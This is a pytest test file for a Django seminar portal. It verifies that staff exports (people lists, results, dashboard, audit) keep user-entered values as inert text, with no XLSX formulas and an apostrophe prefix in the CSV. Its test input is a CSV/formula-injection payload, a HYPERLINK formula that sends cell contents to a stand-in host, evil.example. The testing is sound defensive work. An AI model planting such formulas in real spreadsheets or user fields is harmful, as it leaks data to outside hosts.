"""Every export of the staff pages writes what people typed as inert text: a name or a title that looks like a
formula stays text in the XLSX (no formula in the file) and gets the OWASP prefix in the CSV."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from innovations import workflow
from seminars.models import Slot
from seminars.scoring import ensure_rubric, submit_sheet
from seminars.services import seminar_times
from tests.factories import ActionPlanFactory, ExaminerFactory, PanelFactory, SeminarFactory, complete_plan

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def cells(response):
    """The XLSX's values, and whether any cell of it is a formula."""
    sheet_xml = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml").decode()
    values = [
        cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True) for cell in row
    ]
    return values, "<f>" in sheet_xml


@pytest.fixture
def staff(client, staff_user):
    client.force_login(staff_user)
    return client


@pytest.mark.parametrize("page", ["participant_list", "mentor_list", "examiner_list"])
def test_people_exports_keep_a_formula_like_name_as_text(staff, cohort, page):
    plan = ActionPlanFactory(participant__cohort=cohort, participant__user__full_name=FORMULA)
    plan.participant.mentor.user.full_name = FORMULA
    plan.participant.mentor.user.save()
    ExaminerFactory(cohort=cohort, user__full_name=FORMULA)
    url = reverse(f"portal:{page}", args=[cohort.slug])

    values, has_formula = cells(staff.get(url, {"format": "xlsx"}))
    rows = list(csv.reader(io.StringIO(staff.get(url, {"format": "csv"}).content.decode("utf-8-sig")), delimiter=";"))

    assert FORMULA in values
    assert has_formula is False
    assert "'" + FORMULA in rows[1]


def test_recap_export_keeps_a_formula_like_title_as_text_and_scores_as_numbers(staff, cohort):
    seminar = SeminarFactory(cohort=cohort)
    rubric = ensure_rubric(cohort)
    examiner = ExaminerFactory(cohort=cohort)
    room = PanelFactory(room__seminar=seminar, examiners=[examiner]).room
    plan = ActionPlanFactory(participant__cohort=cohort, state="approved", title=FORMULA)
    start, end = seminar_times(seminar)[0]
    Slot.objects.create(seminar=seminar, room=room, plan=plan, starts_at=start, ends_at=end)
    sheet = plan.score_sheets.create(seminar=seminar, examiner=examiner)
    submit_sheet(sheet, values={c.pk: Decimal("87.5") for c in rubric.criteria.all()}, note="", by=examiner.user)

    values, has_formula = cells(staff.get(reverse("seminars:results", args=[cohort.slug]), {"format": "xlsx"}))

    assert FORMULA in values
    assert has_formula is False
    assert values.count(87.5) == 2  # the examiner's total and the final score


def test_dashboard_export_keeps_a_formula_like_cluster_as_text_and_counts_as_numbers(staff, cohort):
    plan = ActionPlanFactory(participant__cohort=cohort, cluster__name=FORMULA)

    values, has_formula = cells(staff.get(reverse("portal:dashboard", args=[cohort.slug]), {"format": "xlsx"}))

    assert plan.cluster.name in values
    assert has_formula is False
    assert 1 in values


def test_audit_export_keeps_a_formula_like_title_as_text(staff, cohort):
    plan = complete_plan(participant__cohort=cohort, title=FORMULA)
    workflow.submit_plan(plan, by=plan.participant.user)

    values, has_formula = cells(staff.get(reverse("portal:audit", args=[cohort.slug]), {"format": "xlsx"}))

    assert FORMULA in values
    assert has_formula is False
